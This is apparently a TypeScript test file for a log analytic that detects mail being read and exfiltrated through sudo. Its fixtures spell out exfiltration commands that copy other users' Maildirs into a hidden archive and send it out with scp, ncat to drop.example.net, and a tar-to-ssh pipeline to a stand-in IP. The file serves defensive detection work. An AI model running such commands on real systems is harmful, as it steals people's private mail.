import assert from 'node:assert/strict';
import { test } from 'node:test';
import { Process, uidOf } from '../an0656-phishing-attachment-executed/audit-records.test-support.ts';
import { HostLog, MINUTE } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
import { scanLog } from '../an0656-phishing-attachment-executed/stories.test-support.ts';

/** Rules record files and no executions: what sudo writes to the system log and to the audit system is all there is of what ran. */

interface Facts {
  /** Who else than ops is named by sudo as the one who asked. */
  readonly by?: string;
  /** The audit system has sudo's own record. */
  readonly audited?: boolean;
  /** A start of some program is recorded. */
  readonly starts?: boolean;
  /** Who asked logs in once more before that. */
  readonly again?: boolean;
  readonly pause?: number;
}

interface Step {
  readonly line: string;
  /** The program that reads the mail. */
  readonly reads?: string;
}

const OPS = { uid: uidOf('ops'), auid: uidOf('ops'), ses: 11, tty: 'pts0' };

async function told(steps: readonly Step[], facts: Facts = {}): Promise<string> {
  const { by = 'ops', audited = false, starts = false, again = false, pause = MINUTE } = facts;
  const log = new HostLog({ network: false });
  const { records } = log;
  const letters = [log.deliver({ to: 'clerk' }), log.deliver({ to: 'buyer' })];
  if (starts) log.service('/usr/sbin/chronyd');
  records.opened('ops', '/usr/sbin/sshd', OPS);
  if (again) records.opened('ops', '/usr/sbin/sshd', { ...OPS, ses: 12, tty: 'pts2' });
  let serial = 90_000;
  for (const { line, reads } of steps) {
    const stamp = new Date(records.now).toISOString().slice(0, 19);
    log.mail.push(`${stamp}+00:00 ws1 sudo: ${by} : TTY=pts/0 ; PWD=/home/ops ; USER=root ; COMMAND=${line}`);
    serial += 1;
    const hex = Buffer.from(line.replaceAll("'", '')).toString('hex').toUpperCase();
    if (audited)
      records.lines.push(
        `type=USER_CMD msg=audit(${(records.now / 1000).toFixed(3)}:${serial}): pid=77 uid=${OPS.uid} auid=${uidOf(by)} ses=11 msg='cwd="/home/ops" cmd=${hex} exe="/usr/bin/sudo" terminal=pts/0 res=success'`,
      );
    if (reads !== undefined) {
      const process = new Process(records, records.nextPid(), 78, reads, { ...OPS, uid: 0, tty: 'pts1' });
      for (const { path } of letters) process.read(path);
    }
    log.wait(pause);
  }
  return (await scanLog(log)).map(({ analytic, severity, title }) => `${analytic} ${severity}: ${title}`).join();
}

const COPY = { line: '/usr/bin/cp -a /home/clerk/Maildir /home/buyer/Maildir /opt/.cache-tmp', reads: '/usr/bin/cp' };
const PACK = { line: '/usr/bin/tar -C /opt -cjf /opt/.c.tbz .cache-tmp' };
const SEND = { line: '/usr/bin/scp /opt/.c.tbz x@203.0.113.66:' };
const LEFT = 'AN1310 medium: Mail of clerk, buyer read and sent out';

test('what sudo wrote of a copy, a packing and a sending is one way out', async () => {
  assert.equal(await told([COPY, PACK, SEND]), LEFT);
  assert.equal(await told([COPY, PACK, SEND], { audited: true }), LEFT);
  const packed = {
    line: '/usr/bin/tar -cjf /opt/.c.tbz /home/clerk/Maildir /home/buyer/Maildir',
    reads: '/usr/bin/tar',
  };
  assert.equal(await told([packed, SEND]), LEFT);
});

test('who has two logins asks in either: the system log names none', async () => {
  assert.equal(await told([COPY, PACK, SEND], { again: true }), LEFT);
  assert.equal(await told([COPY, PACK, SEND], { again: true, audited: true }), LEFT);
});

test('what a monitor has sudo run all day is not compared with every login that is known', async () => {
  const log = new HostLog({ network: false });
  for (let ses = 0; ses < 8000; ses++) log.records.opened('ops', '/usr/sbin/sshd', { ...OPS, ses });
  for (let i = 0; i < 20_000; i++) {
    log.wait(3000);
    const stamp = new Date(log.records.now).toISOString().slice(0, 19);
    log.mail.push(`${stamp}+00:00 ws1 sudo: dev : PWD=/ ; USER=root ; COMMAND=/usr/lib/nagios/check_disk -w ${i}`);
  }
  const before = process.cpuUsage();
  await scanLog(log);
  const { user, system } = process.cpuUsage(before);
  assert.ok((user + system) / 1e6 < 2.5, `${(user + system) / 1e6} s`);
});

test('the line of a shell: its input, its output, its pipeline', async () => {
  const by = { line: "/usr/bin/sh -c 'ncat --send-only drop.example.net 9001 < /opt/.c.tbz'" };
  assert.equal(await told([COPY, PACK, by]), LEFT);
  const into = { line: "/bin/sh -c 'cat /home/clerk/Maildir/new/* > /opt/.c.tbz'", reads: '/usr/bin/cat' };
  assert.equal(await told([into, SEND]), LEFT);
  const piped = {
    line: "/bin/bash -c 'tar -cz /home/clerk/Maildir | ssh x@203.0.113.66 dd of=c'",
    reads: '/usr/bin/tar',
  };
  assert.equal(await told([piped]), LEFT);
  const apart = { ...piped, line: piped.line.replace(' | ', ' > /dev/null; ') };
  assert.notEqual(await told([apart]), LEFT, 'ssh is no part of the pipeline');
});

test('what is sent is something else, or nothing is', async () => {
  const KEPT = 'AN1310 informational: Mail of clerk, buyer read and copied';
  assert.equal(await told([COPY, PACK]), KEPT);
  assert.equal(await told([COPY, PACK, { line: '/usr/bin/scp /opt/plan.pdf x@203.0.113.66:' }]), KEPT);
  assert.equal(await told([COPY, { line: '/usr/bin/rm -rf /opt/.cache-tmp' }]), KEPT);
});

test('somebody else asked, another program read it, or executions are recorded: sudo’s words are not its', async () => {
  const READ = 'AN1310 informational: Mail of clerk, buyer read';
  assert.equal(await told([COPY, PACK, SEND], { by: 'dev' }), READ);
  assert.equal(await told([COPY, PACK, SEND], { starts: true }), READ);
  const other = { ...COPY, reads: '/usr/bin/install' };
  assert.equal(await told([other, PACK, SEND]), READ, 'another program read it');
});

test('to a host of the own domain it is a note, low once it lay in a hidden place: as where executions are recorded', async () => {
  const own = (file: string) => ({ line: `/usr/bin/rsync -t ${file} rsync://backup.example.org/in/` });
  const copy = { ...COPY, line: COPY.line.replace('.cache-tmp', 'saved') };
  const pack = { line: '/usr/bin/tar -C /opt -cjf /opt/saved.tbz saved' };
  assert.match(await told([copy, pack, own('/opt/saved.tbz')]), /^AN1310 informational: .* sent out$/);
  assert.match(await told([COPY, PACK, own('/opt/.c.tbz')]), /^AN1310 low: .* sent out$/);
});
